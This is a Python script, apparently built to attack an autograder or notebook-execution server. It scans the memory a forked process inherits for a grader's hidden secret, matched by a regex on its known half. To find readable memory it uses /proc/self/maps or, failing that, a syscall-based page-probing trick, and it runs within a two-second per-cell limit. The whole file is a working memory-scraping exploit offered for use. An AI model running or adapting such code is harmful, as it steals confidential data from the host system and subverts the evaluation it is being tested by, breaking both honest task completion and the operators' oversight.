# A forked process has what its server ever held: is the teacher's secret among it?
import ctypes
import gc
import platform
import re
import time

# half of the secret is given to this attack; the other half would be a find
wanted = re.compile(b"HALFSECRET" + rb"[0-9a-f]{16}")
PAGE, PART = 4096, 16 << 20
libc = ctypes.CDLL(None, use_errno=True)


def mapped():
    """Ranges of writable memory; without /proc, pages around objects whose place is known."""
    try:
        for line in open("/proc/self/maps"):
            if match := re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line):
                yield [int(part, 16) for part in match.groups()]
        return
    except OSError:
        pass
    number, done = {"x86_64": 14}.get(platform.machine(), 135), [(0, 0)]

    def there(page):  # rt_sigprocmask reads it, and then refuses the unknown command
        libc.syscall(number, 99, ctypes.c_void_p(page), None, 8)
        return ctypes.get_errno() == 22

    libc.sbrk.restype = ctypes.c_void_p
    known = [libc.sbrk(0) - 1, *{id(o) >> 20: id(o) for o in reversed(gc.get_objects())}.values()]
    for page in (place & -PAGE for place in known):
        if any(low <= page < high for low, high in done) or not there(page):
            continue
        low = high = page
        while there(low - PAGE):
            low -= PAGE
        while there(high):
            high += PAGE
        done.append((low, high))
        yield low, high


searched, began = 0, time.monotonic()
for low, high in mapped():
    for part in range(low, high, PART):
        if time.monotonic() - began > 1.5:  # a cell has two seconds
            break
        try:
            content = ctypes.string_at(part, min(PART + PAGE, high - part))
        except (MemoryError, ValueError, OverflowError):
            continue
        searched += len(content)
        if wanted.search(content):
            print("FOUND", hex(part))
print("searched", searched)
